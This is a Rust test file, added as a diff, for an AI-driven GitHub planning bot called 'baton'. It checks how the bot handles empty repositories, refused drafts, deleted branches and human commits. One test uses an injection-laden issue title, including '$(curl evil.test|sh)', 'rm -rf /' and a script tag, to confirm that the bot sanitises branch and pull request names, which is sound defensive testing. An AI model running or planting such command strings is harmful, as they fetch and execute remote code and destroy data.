@@ -1,1 +1,157 @@
-//! x
+//! Repositories that are not as expected.
+
+use baton::domain::policy::Mode;
+use baton::sandbox::github::{CallMatcher, Config, Fault, FaultRule};
+use baton::sandbox::model::{asks, reads, submits};
+use insta::assert_snapshot;
+
+use crate::world::{Setup, World, plan, plan_of};
+
+#[tokio::test]
+async fn a_repository_without_commits_says_so() {
+    let config = Config { files: Vec::new(), ..Config::default() };
+    let world = World::with(Setup { config, ..Setup::default() }).await;
+    let ann = world.maintainer("ann");
+    let issue = ann.opens("Add Redis caching", "Cache query results with 5min TTL").await;
+    ann.says(issue, "/baton plan").await;
+    assert_snapshot!(world.conversation(issue), @"
+    #1 Add Redis caching
+
+    ann: (eyes, confused)
+      /baton plan
+
+    baton[bot]:
+      ### Baton needs a person
+
+      @ann, the repository has no commit yet, so there is no code to plan for.
+
+      Push a first commit, then write `/baton retry`. Spent on this issue: $0.00.
+
+    baton[bot]:
+      ### Baton · Blocked · needs a person
+      Route ✔ · **Plan** | $0.00 spent
+
+      The repository has no commit yet, so there is no code to plan for.
+
+      ▸ Router analysis: simple; Sonnet is the safe middle
+
+      <sub>`/baton retry` · `/baton cost` · `/baton stop` · `/baton help`</sub>
+    ");
+}
+
+/// Case 87: drafts are refused with 422, so an ordinary pull request is opened.
+#[tokio::test]
+async fn where_drafts_are_refused_the_pull_request_is_an_ordinary_one() {
+    let world = World::new().await;
+    world.github.repo().allow_drafts(false);
+    let ann = world.maintainer("ann");
+    let issue = ann.opens("Add Redis caching", "Cache query results with 5min TTL").await;
+    world.opus().will([submits(plan())]);
+
+    ann.says(issue, "/baton plan").await;
+
+    let pull = world.github.repo().pulls().remove(0);
+    assert!(!pull.pull.as_ref().unwrap().draft);
+    assert!(!world.newest_comment(issue).contains("draft"), "{}", world.newest_comment(issue));
+}
+
+#[tokio::test]
+async fn a_server_without_tarballs_is_read_file_by_file() {
+    let world = World::new().await;
+    let tarball = CallMatcher::call("GET", "/repos/{owner}/{repo}/tarball/{*ref}");
+    world.github.fault(FaultRule::once(tarball, Fault::not_found()));
+    let ann = world.maintainer("ann");
+    let issue = ann.opens("Add Redis caching", "Cache query results with 5min TTL").await;
+    world.opus().will([reads("src/rag.rs"), submits(plan())]);
+
+    ann.says(issue, "/baton plan").await;
+
+    assert_eq!(world.stage(issue).await, "Planned");
+    let read = world.model.calls().last().map(|it| it.body["messages"].to_string()).unwrap();
+    assert!(read.contains("pub struct Rag"), "{read}");
+}
+
+/// The plan is kept: publishing it again costs nothing.
+#[tokio::test]
+async fn a_deleted_branch_calls_a_person_and_retry_commits_the_plan_again() {
+    let world = World::new().await;
+    let ann = world.maintainer("ann");
+    let issue = ann.opens("Add Redis caching", "Cache query results with 5min TTL").await;
+    world.opus().will([submits(plan())]);
+    ann.says(issue, "/baton plan").await;
+    let before = world.conversation(issue);
+
+    ann.deletes_branch("baton/1-add-redis-caching").unwrap();
+    world.settles().await;
+    let blocked = world.news(issue, &before);
+    ann.says(issue, "/baton retry").await;
+
+    assert_eq!(world.model.books().len(), 1);
+    assert_eq!(world.stage(issue).await, "Planned");
+    assert_eq!(world.github.repo().branches()[0].0, "baton/1-add-redis-caching");
+    assert_snapshot!(blocked + &world.news(issue, &before), @"
+
+    baton[bot]:
+      ### Baton · Stopped
+      Route ✔ · Plan ✔ | $0.0361 spent, limit $2.00 a run | 1 turn | [plan](https://github.test/acme/helpdesk/blob/<sha>/docs/prds/active/1-plan.md) #2
+
+      The plan's pull request was closed.
+
+      ▸ Router analysis: simple; Sonnet is the safe middle
+
+      ▸ Cost by model
+
+      <sub>`/baton retry` · `/baton cost` · `/baton help`</sub>
+
+    baton[bot]:
+      ### Baton needs a person
+
+      @ann, the branch with the plan was deleted.
+
+      `/baton retry` commits the plan again at no cost; `/baton stop` ends it. Spent on this issue: $0.0361.
+
+    baton[bot]:
+      ### Baton needs a person
+
+      @ann, the branch with the plan was deleted.
+
+      `/baton retry` commits the plan again at no cost; `/baton stop` ends it. Spent on this issue: $0.0361.
+
+    ann: (eyes, rocket)
+      /baton retry
+    ");
+}
+
+/// A person's commit on the plan's branch is built upon, never overwritten.
+#[tokio::test]
+async fn a_persons_commit_on_the_plans_branch_stays() {
+    let world = World::new().await;
+    let ann = world.maintainer("ann");
+    let issue = ann.opens("Add Redis caching", "Cache query results with 5min TTL").await;
+    world.opus().will([submits(plan()), submits(plan_of("Without Redis."))]);
+    ann.says(issue, "/baton plan").await;
+    ann.pushes("baton/1-add-redis-caching", &[("NOTES.md", Some("mine"))], "notes").unwrap();
+    ann.says(issue, "/baton revise leave Redis out").await;
+
+    let repo = world.github.repo();
+    assert_eq!(repo.file("baton/1-add-redis-caching", "NOTES.md").as_deref(), Some("mine"));
+    assert_eq!(repo.commits("baton/1-add-redis-caching").len(), 4);
+}
+
+/// Case 26 of the title: names that would be dangerous in other people's workflows.
+#[tokio::test]
+async fn a_dangerous_title_makes_a_harmless_branch_and_pull_request() {
+    let world = World::in_mode(Mode::Quiet).await;
+    let ann = world.maintainer("ann");
+    let title = "$(curl evil.test|sh) `id` \"; rm -rf / #[skip ci] @acme/all Fixes #7 <script>";
+    let issue = ann.opens(title, "Cache query results with 5min TTL").await;
+    world.opus().will([asks(["Is Redis optional?"]), submits(plan())]);
+    ann.says(issue, "/baton plan").await;
+    ann.says(issue, "1a").await;
+
+    let pull = world.github.repo().pulls().remove(0);
+    assert_snapshot!(format!("{}\n{}", pull.title, pull.pull.as_ref().unwrap().head), @"
+    Plan: (curl evil.test sh) id rm -rf / # skip ci acme/all Fixes 7 script
+    baton/1-curl-evil-test-sh-id-rm-rf-skip-ci-acme
+    ");
+}
